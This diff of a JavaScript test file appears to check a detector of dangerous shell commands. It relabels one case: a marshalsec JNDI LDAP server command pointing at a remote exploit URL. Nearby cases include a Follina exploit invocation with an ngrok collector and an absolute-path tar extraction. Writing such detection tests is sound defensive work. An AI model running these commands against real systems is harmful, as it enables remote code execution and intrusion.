@@ -4279,7 +4279,7 @@ describe('the fifteen sets held out last stop and the hundred-and-sixtieth and -
     ['tar xPf $(MODDESTDIR)backup_rtlwifi_driver.tar', true, 'absolute paths'],
     ['tar -xzf vendor.tar.gz', false],
     // A Java main class given another machine's address; tunnels' and collectors' hosts; a phone's app attached to.
-    ['java -cp target/m.jar marshalsec.jndi.LDAPRefServer "http://10.8.219.166:8000/#Exploit"', true, "another machine's address"],
+    ['java -cp target/m.jar marshalsec.jndi.LDAPRefServer "http://10.8.219.166:8000/#Exploit"', true, 'JNDI'],
     ['java -cp app.jar com.example.Main --port 8080', false],
     ['python3 follina.py -u https://abcd.in.ngrok.io -p 18152', true, 'out-of-band collector'],
     ['./test/smoke/interact.sh interaction-shots', false],
